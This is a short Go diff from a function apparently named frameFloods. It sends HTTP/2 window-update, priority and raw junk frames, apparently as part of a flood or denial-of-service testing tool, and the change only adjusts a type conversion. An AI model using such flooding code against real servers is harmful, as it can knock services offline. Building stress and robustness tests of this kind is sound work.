@@ -319,7 +319,7 @@ func frameFloods(ctx context.Context, a *attacker) error {
 		case 2:
 			return c.framer.WriteWindowUpdate(0, 1)
 		case 3:
-			return c.framer.WritePriority(uint32(c.next), http2.PriorityParam{Weight: 1})
+			return c.framer.WritePriority(c.next, http2.PriorityParam{Weight: 1})
 		default:
 			return c.framer.WriteRawFrame(0xbe, 0, 0, noise(64))
 		}
